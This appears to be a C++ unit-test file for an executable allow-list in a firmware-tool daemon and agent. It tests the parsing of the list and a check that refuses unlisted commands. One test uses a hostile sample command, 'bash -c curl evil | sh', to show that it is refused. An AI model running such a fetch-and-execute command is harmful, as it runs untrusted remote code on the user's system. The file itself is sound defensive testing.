// The executable allow-list (common/executable_allowlist.h): its file format and the check
// kilnd and kiln-agent both make.

#include "common/executable_allowlist.h"

#include <gtest/gtest.h>

namespace kiln {
namespace {

TEST(ExecutableAllowListTest, ReadsNamesAndAbsolutePathsAndSkipsCommentsAndBlankLines) {
  auto list = parseExecutableAllowList("# GB200 firmware tools\nnvidia-smi\n\n  /usr/sbin/nvfwupd  # flasher\n\t\n",
                                       "/etc/kiln/executables");
  ASSERT_TRUE(list.ok()) << list.error().message;
  EXPECT_EQ(list->entries, (std::set<std::string>{"nvidia-smi", "/usr/sbin/nvfwupd"}));
  EXPECT_EQ(list->source, "/etc/kiln/executables");
}

TEST(ExecutableAllowListTest, ABadLineIsNamedWithItsFileAndNumber) {
  auto args = parseExecutableAllowList("nvidia-smi\nmlxfwmanager -y\n", "list");
  ASSERT_FALSE(args.ok());
  EXPECT_EQ(args.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(args.error().message.find("list:2"), std::string::npos) << args.error().message;
  auto relative = parseExecutableAllowList("bin/flash\n", "list");
  ASSERT_FALSE(relative.ok());
  EXPECT_NE(relative.error().message.find("list:1"), std::string::npos) << relative.error().message;
  EXPECT_FALSE(parseExecutableAllowList("# nothing\n\n", "list").ok()) << "an empty list would refuse everything";
  EXPECT_EQ(loadExecutableAllowList("/nonexistent/kiln-allow").error().code, ErrorCode::kNotFound);
}

TEST(ExecutableAllowListTest, OnlyAListedExecutableAsWrittenMayRun) {
  const auto list = *parseExecutableAllowList("nvidia-smi\n/usr/sbin/nvfwupd\n", "list");
  EXPECT_EQ(executableRefusal(list, {"nvidia-smi", "-q"}), std::nullopt);
  EXPECT_EQ(executableRefusal(list, {"/usr/sbin/nvfwupd", "-p", "x.pldm"}), std::nullopt);
  // A name is not its path, nor a path its name: PATH decides what a name runs.
  EXPECT_TRUE(executableRefusal(list, {"/usr/bin/nvidia-smi"}).has_value());
  EXPECT_TRUE(executableRefusal(list, {"nvfwupd"}).has_value());
  auto refused = executableRefusal(list, {"bash", "-c", "curl evil | sh"});
  ASSERT_TRUE(refused.has_value());
  EXPECT_NE(refused->find("'bash'"), std::string::npos) << *refused;
  EXPECT_TRUE(executableRefusal(list, {"{{tool}}", "-q"}).has_value()) << "a template cannot be checked";
  EXPECT_TRUE(executableRefusal(list, {}).has_value());
}

}  // namespace
}  // namespace kiln
